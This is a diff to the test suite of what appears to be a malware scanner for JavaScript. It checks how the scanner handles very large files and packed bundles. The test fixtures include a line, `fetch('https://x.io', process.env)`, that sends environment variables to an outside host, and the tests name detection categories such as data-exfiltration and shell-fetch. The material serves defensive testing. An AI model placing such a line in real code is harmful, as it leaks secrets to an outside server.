@@ -151,11 +151,11 @@ describe('checks', { timeout: 300_000 }, () => {
     }
   });
 
-  it('are bounded on code of 1 MB on one line, which they read, and leave larger code', () => {
+  it('read code of 1 MB, and leave larger code', () => {
     const code = (size: number): string =>
-      `${'var a=1;'.repeat(size / 8)}fetch('https://x.io', process.env)`;
+      `/*${'var a=1;'.repeat(size / 8)}*/fetch('https://x.io', process.env)`;
     expect(aboveInfo(judged({ 'a.js': code(999_000) }))).not.toContain('source-unread');
-    expect(aboveInfo(judged({ 'a.js': code(10_000_000) }))).toContain('source-unread');
+    expect(aboveInfo(judged({ 'a.js': code(1_000_000) }))).toContain('source-unread');
   });
 
   it('are bounded on thousands of files', () => {
@@ -240,23 +240,17 @@ describe('a packed bundle', { timeout: 300_000 }, () => {
     return `(()=>{var e={${modules.join(',')}},t={};function i(n){return t[n]||e[n](t[n]={},t,i)}i(0)})();`;
   }
 
-  it('of 900 kB is read to its end, and shows what is in it anywhere', () => {
+  it('of 900 kB is read to its end, without a remark about its size, and shows what is in it anywhere', () => {
     const share = fc.double({ min: 0, max: 1, noNaN: true });
     fc.assert(
       fc.property(share, fc.constantFrom(...Object.keys(HARMFUL)), (at, what) => {
         const found = judged({ 'a.js': bundle(900_000, at, HARMFUL[what]!) });
-        const levels = aboveInfo(found);
-        expect(levels).not.toContain('source-unread');
-        expect(levels).toContainEqual(
+        expect(found.filter(({ code }) => code.startsWith('source-'))).toEqual([]);
+        expect(aboveInfo(found)).toContainEqual(
           expect.stringMatching(/^(?:data-exfiltration|remote-code|shell-fetch|decode-execute)/),
         );
       }),
       { numRuns: runs(4) },
     );
-  });
-
-  it('without harm has no remark about its size', () => {
-    const found = judged({ 'a.js': bundle(900_000, 0, '') });
-    expect(found.filter(({ code }) => code.startsWith('source-'))).toEqual([]);
   });
 });
